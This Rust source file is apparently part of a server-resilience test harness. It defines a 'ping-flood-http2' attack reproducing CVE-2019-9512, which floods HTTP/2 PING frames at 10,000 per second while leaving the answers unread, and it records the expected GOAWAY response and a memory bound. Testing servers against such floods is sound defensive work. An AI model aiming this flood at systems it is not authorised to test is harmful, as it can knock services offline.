//! PING, each of which must be answered (CVE-2019-9512).

use anyhow::Result;

use super::{Attack, KIB, nothing};
use crate::frames::http2::{self, PING};
use crate::judge::{Bound, Told};
use crate::siege::{Field, Flood, flood};

pub(super) const ATTACK: Attack = Attack {
    name: "ping-flood-http2",
    does: "HTTP/2 PING frames whose answers are not read",
    rate: "10,000 frames/s",
    told: &["GOAWAY ENHANCE_YOUR_CALM"],
    bound: Bound {
        bytes: 256 * KIB,
        because: "one connection: 64 KiB to read into and 64 KiB to write from, twice = 256 KiB",
    },
    prepare: nothing,
    strike,
};

fn strike(field: &Field) -> Result<Told> {
    let frame = http2::frame(PING, 0, 0, b"attack!!");
    flood(field, &Flood::of_http2(&[]).unread(), |_| frame.clone())
}
